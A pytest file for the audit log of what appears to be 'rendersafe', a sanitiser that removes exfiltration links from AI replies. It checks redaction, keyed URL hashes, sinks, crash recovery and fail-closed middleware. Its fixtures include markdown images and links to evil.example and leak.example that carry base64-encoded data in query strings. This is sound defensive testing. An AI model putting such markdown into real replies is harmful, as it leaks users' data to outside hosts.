"""The audit log: records, redaction and keyed hashes, sinks, the background writer
under load from real processes, crashes, failing sinks, and `rendersafe audit summary`."""

from __future__ import annotations

import asyncio
import io
import json
import logging
import subprocess
import sys
import textwrap
import threading
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest

from attacks import PLANTED, transcript_payloads
from fixture_files import all_cases
from rendersafe import Finding, Policy, Sanitizer
from rendersafe.audit import (
    AuditLog,
    AuditRecord,
    JsonlSink,
    LoggingSink,
    Source,
    policy_digest,
    url_hmac,
)
from rendersafe.cli import run
from rendersafe.errors import AuditError, PolicyError
from rendersafe.middleware import RenderSafeMiddleware
from servers import Server

ROOT = Path(__file__).parent.parent
IMG = "![x](https://evil.example/p.png?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ=)"


def lines(path: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_records_in_a_jsonl_file(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    with AuditLog([JsonlSink(path)], key="k") as audit:
        Sanitizer(audit=audit).run(f"a {IMG}", context={"conversation_id": "c1"})
    (record,) = lines(path)
    assert record["schema_version"] == 1
    assert record["event"] == "finding"
    assert record["source"] == {
        "kind": "function",
        "method": None,
        "path": None,
        "request_id": None,
        "file": None,
        "line": None,
        "record_id": None,
    }
    assert record["construct"] == "image"
    assert record["action"] == "removed"
    assert record["reasons"] == ["encoded_base64", "image_host_not_allowed"]
    assert record["host"] == "evil.example"
    assert record["url"] == "https://evil.example/{5}?d={36}"
    assert (record["line"], record["column"]) == (1, 3)
    assert record["context"] == {"conversation_id": "c1"}
    assert len(str(record["policy_digest"])) == 16
    assert datetime.fromisoformat(str(record["time"])).tzinfo is not None


def test_keyed_hash_matches_one_url_and_only_with_the_key(tmp_path: Path) -> None:
    full = "https://evil.example/p.png?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ="
    records: list[AuditRecord] = []
    for key in ("key-one", "key-one", "key-two"):
        with AuditLog([records.append], key=key) as audit:
            Sanitizer(audit=audit).run(IMG)
    hashes = [r.url_hmac for r in records]
    assert hashes[0] == hashes[1] == url_hmac(b"key-one", full)
    assert hashes[2] != hashes[0]
    assert "SGVsbG8" not in records[0].model_dump_json()


def test_full_urls_only_when_asked(tmp_path: Path) -> None:
    records: list[AuditRecord] = []
    with AuditLog([records.append], full_urls=True) as audit:
        Sanitizer(audit=audit).run(IMG)
    assert records[0].url == "https://evil.example/p.png?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ="


def test_no_planted_secret_reaches_the_audit_file(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    replies = [case.input for case in all_cases() if not case.benign]
    for transcript in (ROOT / "fixtures" / "transcripts").glob("openai-*.jsonl"):
        for line in transcript.read_text().splitlines():
            replies += [
                m["content"] for m in json.loads(line)["messages"] if m["role"] == "assistant"
            ]
    with AuditLog([JsonlSink(path)]) as audit:
        sanitizer = Sanitizer(audit=audit)
        for reply in replies:
            sanitizer.run(reply)
    written = path.read_text()
    assert len(written.splitlines()) > 200
    secrets = [*PLANTED, *transcript_payloads()]
    assert [s for s in secrets if s in written or json.dumps(s)[1:-1] in written] == []


def test_stream_findings_recorded(tmp_path: Path) -> None:
    records: list[AuditRecord] = []
    seen: list[Finding] = []
    with AuditLog([records.append]) as audit:
        stream = Sanitizer(audit=audit).stream(context={"c": "1"}, on_finding=seen.append)
        for piece in (IMG[:10], IMG[10:], " ok"):
            stream.feed(piece)
        stream.close()
    assert [r.construct for r in records] == ["image"]
    assert records[0].context == {"c": "1"}
    assert len(seen) == 1


def test_logging_sink(caplog: pytest.LogCaptureFixture) -> None:
    with (
        caplog.at_level(logging.INFO, logger="rendersafe.audit.test"),
        AuditLog([LoggingSink("rendersafe.audit.test")]) as audit,
    ):
        Sanitizer(audit=audit).run(IMG)
    (logged,) = [r for r in caplog.records if r.name == "rendersafe.audit.test"]
    assert json.loads(logged.getMessage())["construct"] == "image"
    assert logged.rendersafe_audit["host"] == "evil.example"  # type: ignore[attr-defined]


@pytest.mark.parametrize("where", ["missing/dir/audit.jsonl", "."])
def test_unwritable_path_fails_at_start(tmp_path: Path, where: str) -> None:
    with pytest.raises(AuditError, match="cannot open the audit file"):
        JsonlSink(tmp_path / where)


def test_a_failing_sink_is_counted_and_sanitising_goes_on(
    caplog: pytest.LogCaptureFixture,
) -> None:
    def full_disk(record: AuditRecord) -> None:
        raise OSError(28, "No space left on device")

    kept: list[AuditRecord] = []
    with AuditLog([full_disk, kept.append]) as audit:
        result = Sanitizer(audit=audit).run(IMG)
        assert not audit.flush()  # retried on flush: it fails again
        assert audit.failures >= 1
        assert audit.broken
    assert "image removed" in result.text.replace("\\", "")
    assert len(kept) == 1  # the other sink still got it
    assert "No space left on device" in caplog.text


def test_audit_required_fails_closed_with_503() -> None:
    broken = {"on": True}
    written: list[AuditRecord] = []

    def flaky(record: AuditRecord) -> None:
        if broken["on"]:
            raise OSError(28, "No space left on device")
        written.append(record)

    async def app(scope: object, receive: object, send: object) -> None:
        from starlette.responses import PlainTextResponse  # noqa: PLC0415

        await PlainTextResponse(f"hi {IMG}")(scope, receive, send)  # type: ignore[arg-type]

    policy = Policy(audit_required=True)
    with pytest.raises(PolicyError, match="audit_required"):
        RenderSafeMiddleware(app, policy=policy)
    audit = AuditLog([flaky])
    with Server(RenderSafeMiddleware(app, policy=policy, audit=audit)) as server:
        first = httpx.get(server.url)  # its record cannot be written: not served
        assert not audit.flush()
        refused = httpx.get(server.url)  # the log is broken: refused, and recorded
        assert not audit.flush()
        broken["on"] = False
        assert audit.flush()  # the records kept are written now
        again = httpx.get(server.url)
    audit.close()
    assert first.status_code == 503
    assert "evil.example" not in first.text
    assert refused.status_code == 503
    assert refused.json()["error"]["type"] == "rendersafe_error"
    assert again.status_code == 200
    events = [record.event for record in written]
    assert events[:3] == ["finding", "error", "error"]  # nothing lost, in order
    assert audit.lost == 0


def test_back_pressure_loses_nothing() -> None:
    got: list[AuditRecord] = []

    def slow(record: AuditRecord) -> None:
        time.sleep(0.002)
        got.append(record)

    record = AuditLog([], key="k").event_record("error", Source(kind="function"), "d", "m")
    with AuditLog([slow], queue_size=2) as audit:
        start = time.monotonic()
        for _ in range(100):
            audit.emit(record)
        waited = time.monotonic() - start
    assert len(got) == 100
    assert waited > 0.05  # emit waited for the writer instead of dropping records


def test_aemit_waits_without_blocking_the_event_loop() -> None:
    release = threading.Event()

    def stuck(record: AuditRecord) -> None:
        release.wait(5)

    audit = AuditLog([stuck], queue_size=1)
    record = audit.event_record("error", Source(kind="function"), "d", "m")

    async def main() -> int:
        ticks = 0

        async def ticker() -> None:
            nonlocal ticks
            while True:
                ticks += 1
                await asyncio.sleep(0.005)

        task = asyncio.create_task(ticker())
        emits = asyncio.gather(*(audit.aemit(record) for _ in range(5)))
        await asyncio.sleep(0.2)
        release.set()
        await emits
        task.cancel()
        return ticks

    assert asyncio.run(main()) > 10
    audit.close()


WRITER = textwrap.dedent(
    """
    import sys, threading
    from rendersafe.audit import AuditLog, JsonlSink, Source
    path, proc, threads, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    audit = AuditLog([JsonlSink(path)], queue_size=64)
    def work(thread):
        for i in range(count):
            message = f"{proc}/{thread}/{i}/" + "x" * 3000  # beyond PIPE_BUF
            audit.emit(audit.event_record("error", Source(kind="batch"), "d", message))
    workers = [threading.Thread(target=work, args=(t,)) for t in range(threads)]
    [w.start() for w in workers]
    [w.join() for w in workers]
    if sys.argv[5:] != ["no-close"]:
        audit.close()
    """
)


def test_processes_and_threads_share_one_file(tmp_path: Path) -> None:
    path, procs, threads, count = tmp_path / "audit.jsonl", 4, 4, 150
    children = [
        subprocess.Popen(
            [sys.executable, "-c", WRITER, str(path), str(p), str(threads), str(count)]
        )
        for p in range(procs)
    ]
    assert [child.wait(timeout=120) for child in children] == [0] * procs
    messages = [str(record["message"]) for record in lines(path)]
    assert len(messages) == procs * threads * count
    assert len({m.split("/x")[0] for m in messages}) == procs * threads * count  # all distinct
    assert all(m.endswith("x" * 3000) for m in messages)  # none torn


def test_records_written_at_exit_without_close(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    command = [sys.executable, "-c", WRITER, str(path), "0", "2", "300", "no-close"]
    subprocess.run(command, check=True, timeout=120)
    assert len(lines(path)) == 600


CRASH = textwrap.dedent(
    """
    import os, sys
    from rendersafe.audit import AuditLog, JsonlSink, Source
    sink = JsonlSink(sys.argv[1])
    record = AuditLog([]).event_record("error", Source(kind="batch"), "d", "before")
    sink.write_batch([record] * 3)
    line = record.model_dump_json().encode()
    os.write(sink._fd, line[: len(line) // 2])  # the write a crash cuts short
    os._exit(9)
    """
)


def test_crash_leaves_one_partial_line_that_summary_skips(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    crashed = subprocess.run([sys.executable, "-c", CRASH, str(path)], check=False, timeout=60)
    assert crashed.returncode == 9
    out, err = io.StringIO(), io.StringIO()
    assert run(["audit", "summary", str(path)], stdout=out, stderr=err) == 0
    assert out.getvalue().startswith("3 records (3 error), 1 skipped")
    assert f"{path}:4: skipped a partial last line" in err.getvalue()
    # A writer that opens the file next starts after the partial line, on a line of its own.
    with AuditLog([JsonlSink(path)]) as audit:
        Sanitizer(audit=audit).run(IMG)
    out, err = io.StringIO(), io.StringIO()
    run(["audit", "summary", str(path), "--json"], stdout=out, stderr=err)
    counts = json.loads(out.getvalue())
    assert counts["records"] == 4
    assert counts["skipped"] == 1
    assert f"{path}:4: skipped a line that is not JSON" in err.getvalue()


def test_summary_counts(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    replies = [
        IMG,
        f"[a](https://leak.example/?q={'QUJDREVGR0hJSktMTU5PUFFSU1RVVldY' * 2})",
        "![y](https://evil.example/y.png)",
    ]
    with AuditLog([JsonlSink(path)]) as audit:
        for reply in replies:
            Sanitizer(audit=audit).run(reply)
    out = io.StringIO()
    assert run(["audit", "summary", str(path)], stdout=out, stderr=io.StringIO()) == 0
    table = out.getvalue()
    assert table.startswith("3 records (3 finding), 0 skipped")
    assert "evil.example        2" in table
    assert "image_host_not_allowed        2" in table
    today = datetime.now(UTC).date().isoformat()
    assert f"{today}        3" in table
    out = io.StringIO()
    run(["audit", "summary", str(path), "--json", "--since", "2999-01-01"], stdout=out)
    assert json.loads(out.getvalue())["records"] == 0


def test_documented_schema_is_current() -> None:
    """docs/audit-record.schema.json is generated: `rendersafe audit schema > ...`."""
    documented = json.loads((ROOT / "docs" / "audit-record.schema.json").read_text())
    assert documented == AuditRecord.model_json_schema()


def test_a_line_another_writer_left_partial_is_not_appended_to(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    record = AuditLog([], key="k").event_record("error", Source(kind="function"), "d", "m")
    sink = JsonlSink(path)
    sink.write_batch([record])
    with path.open("ab") as other:  # another process dies mid-line
        other.write(record.model_dump_json().encode()[:40])
    sink.write_batch([record, record])
    sink.close()
    out = io.StringIO()
    run(["audit", "summary", str(path), "--json"], stdout=out, stderr=io.StringIO())
    assert json.loads(out.getvalue())["records"] == 3


def test_a_record_with_a_lone_surrogate_does_not_sink_its_batch(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    with AuditLog([JsonlSink(path)]) as audit:
        sanitizer = Sanitizer(audit=audit)
        for context in ({"c": "ok"}, {"c": "half \ud83d emoji"}, {"c": "ok2"}):
            sanitizer.run(IMG, context=context)
        audit.flush()
        assert audit.failures == 0
    contexts = [json.loads(line)["context"]["c"] for line in path.read_text().splitlines()]
    assert contexts == ["ok", "half \ud83d emoji", "ok2"]


def test_a_raising_log_handler_does_not_stop_the_writer() -> None:
    class Exploding(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            raise RuntimeError("log shipper down")

    handler = Exploding()
    shipped = logging.getLogger("rendersafe.audit.shipped")
    shipped.addHandler(handler)
    shipped.setLevel(logging.INFO)
    shipped.propagate = False
    try:
        kept: list[AuditRecord] = []
        with AuditLog([LoggingSink("rendersafe.audit.shipped"), kept.append]) as audit:
            Sanitizer(audit=audit).run(IMG)
            audit.flush()
            assert audit.broken
            Sanitizer(audit=audit).run(IMG)  # the writer is still there
        assert len(kept) == 2
    finally:
        shipped.removeHandler(handler)


FORKER = textwrap.dedent(
    """
    import os, sys
    from rendersafe.audit import AuditLog, JsonlSink, Source
    audit = AuditLog([JsonlSink(sys.argv[1])])
    record = audit.event_record("error", Source(kind="batch"), "d", "parent")
    audit.emit(record)
    audit.flush()
    pid = os.fork()
    if pid == 0:  # the child: a writer of its own
        for _ in range(50):
            audit.emit(audit.event_record("error", Source(kind="batch"), "d", "child"))
        audit.close()
        os._exit(0)
    os.waitpid(pid, 0)
    audit.emit(record)
    audit.close()
    """
)


def test_a_forked_child_writes_its_records(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    subprocess.run([sys.executable, "-c", FORKER, str(path)], check=True, timeout=60)
    messages = [r["message"] for r in lines(path)]
    assert messages.count("child") == 50
    assert messages.count("parent") == 2


def test_records_emitted_while_closing_are_written_or_refused() -> None:
    for _ in range(30):
        got: list[AuditRecord] = []
        audit = AuditLog([got.append], queue_size=4)
        record = audit.event_record("error", Source(kind="function"), "d", "m")
        accepted = 0

        def produce(audit: AuditLog = audit, record: AuditRecord = record) -> None:
            nonlocal accepted
            for _ in range(50):
                try:
                    audit.emit(record)
                except RuntimeError:
                    return
                accepted += 1

        thread = threading.Thread(target=produce)
        thread.start()
        audit.close()
        thread.join()
        assert len(got) == accepted


def test_recorder_computes_the_digest_once_and_shares_it() -> None:
    policy = Policy()
    audit = AuditLog([], key="k")
    recorder = audit.recorder(Source(kind="function"), policy)
    assert recorder.digest == policy_digest(policy)
    line = Source(kind="batch", file="a.jsonl", line=3)
    moved = recorder.at(line)
    assert (moved.log, moved.digest, moved.emit) == (audit, recorder.digest, recorder.emit)
    assert moved.source == line
    assert recorder.source == Source(kind="function")  # `at` leaves the original alone
    audit.close()


def test_recorder_records_findings_and_events_as_the_log_does() -> None:
    (finding,) = Sanitizer().run(IMG, context={"c": "1"}).findings
    with AuditLog([], key="k", full_urls=True) as audit:
        recorder = audit.recorder(Source(kind="function"), Policy())
        made = recorder.finding_record(finding)
        expected = audit.finding_record(finding, Source(kind="function"), recorder.digest)
        event = recorder.event_record("disconnect", "gone")
    keep = {"event_id", "time"}
    assert made.model_dump(exclude=keep) == expected.model_dump(exclude=keep)
    assert made.url == finding.full_url  # full_urls: the log's setting
    assert made.url_hmac == url_hmac(b"k", str(finding.full_url))
    assert (event.event, event.message, event.policy_digest) == (
        "disconnect",
        "gone",
        made.policy_digest,
    )


def test_recorder_emits_to_the_log_or_collects() -> None:
    written: list[AuditRecord] = []
    (finding,) = Sanitizer().run(IMG).findings
    with AuditLog([written.append]) as audit:
        recorder = audit.recorder(Source(kind="function"), Policy())
        recorder.finding(finding)
        pending: list[AuditRecord] = []
        collecting = recorder.at(Source(kind="middleware"), emit=pending.append)
        collecting.finding(finding)
        collecting.event("error", "boom")
        audit.flush()
        assert [r.source.kind for r in written] == ["function"]
    assert [(r.event, r.source.kind) for r in pending] == [
        ("finding", "middleware"),
        ("error", "middleware"),
    ]


class _NoSyncEmit(AuditLog):
    """A log whose blocking `emit` must not be called (the middleware runs on the loop)."""

    def emit(self, record: AuditRecord) -> None:
        raise AssertionError("emit called on the event loop")


def test_middleware_records_each_finding_once_with_the_request_source() -> None:
    url = "https://evil.example/c?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ="
    citation = {"type": "url_citation", "url": url}
    part = {"type": "output_text", "text": f"a {IMG}", "annotations": [citation]}
    body = json.dumps({"object": "response", "output": [{"type": "message", "content": [part]}]})

    async def app(scope: object, receive: object, send: Any) -> None:
        headers = [(b"content-type", b"application/json")]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": body.encode()})

    records: list[AuditRecord] = []
    audit = _NoSyncEmit([records.append])
    middleware = RenderSafeMiddleware(app, policy=Policy(), audit=audit)
    assert middleware.sanitizer.audit is audit

    async def get() -> httpx.Response:
        transport = httpx.ASGITransport(middleware)
        async with httpx.AsyncClient(transport=transport, base_url="http://test") as http:
            return await http.post("/v1/responses", headers={"x-request-id": "r1"})

    response = asyncio.run(get())
    audit.close()
    assert "evil.example" not in response.text
    assert [r.construct for r in records] == ["image", "citation"]
    source = Source(kind="middleware", method="POST", path="/v1/responses", request_id="r1")
    assert {r.source for r in records} == {source}
